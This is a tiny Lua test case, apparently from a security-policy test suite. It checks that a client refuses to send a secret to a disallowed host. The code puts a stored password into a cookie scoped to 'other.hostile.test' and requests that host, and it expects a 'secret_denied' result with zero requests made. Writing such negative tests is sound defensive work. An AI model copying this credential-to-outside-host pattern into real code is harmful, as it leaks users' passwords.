-- A secret in a cookie to such a host.
-- expect: policy.secret_denied
-- within: 400 ms
-- hosts: { 'other.hostile.test', secrets = false },
-- requests: 0
local s = ...
s.cookies:set{ name = "p", value = s.credentials.password, domain = "other.hostile.test" }
pcall(s.get, s, "https://other.hostile.test/ok")
return s:get("/ok")
